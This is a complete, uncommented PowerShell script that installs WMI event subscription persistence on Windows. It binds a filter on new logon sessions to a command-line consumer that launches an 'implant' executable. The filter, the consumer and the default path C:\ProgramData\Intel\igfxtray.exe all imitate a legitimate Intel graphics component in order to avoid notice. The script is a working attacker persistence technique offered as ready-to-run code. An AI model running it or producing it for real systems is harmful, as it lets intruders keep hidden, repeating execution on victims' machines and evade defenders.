param([string]$ImplantPath = 'C:\ProgramData\Intel\igfxtray.exe')

$ns = 'root/subscription'
$filter = New-CimInstance -Namespace $ns -ClassName __EventFilter -Property @{
    Name           = 'IntelGfxHealth'
    EventNamespace = 'root/cimv2'
    QueryLanguage  = 'WQL'
    Query          = "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_LogonSession'"
}

$consumer = New-CimInstance -Namespace $ns -ClassName CommandLineEventConsumer -Property @{
    Name                = 'IntelGfxHealth'
    ExecutablePath      = $ImplantPath
    CommandLineTemplate = $ImplantPath
}

$binding = New-CimInstance -Namespace $ns -ClassName __FilterToConsumerBinding -Property @{
    Filter   = [ref]$filter
    Consumer = [ref]$consumer
}
Write-Output "binding created: $($binding.Filter.Name)"
